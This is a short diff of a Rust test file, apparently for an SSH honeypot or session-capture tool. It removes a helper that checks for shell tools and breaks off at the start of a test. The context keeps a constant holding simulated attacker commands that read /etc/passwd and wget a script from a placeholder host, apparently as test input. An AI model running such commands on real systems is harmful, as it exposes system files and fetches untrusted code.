@@ -11,14 +11,6 @@ use std::time::Duration;
 
 const SCRIPT: &str = "uname -a; cat /etc/passwd; wget http://x/y.sh";
 
-fn have(tool: &str) -> bool {
-    Command::new("sh")
-        .args(["-c", &format!("command -v {tool}")])
-        .output()
-        .map(|o| o.status.success())
-        .unwrap_or(false)
-}
-
 #[test]
 fn scripted_ssh_session_reaches_events_and_captures() {
     assert!(
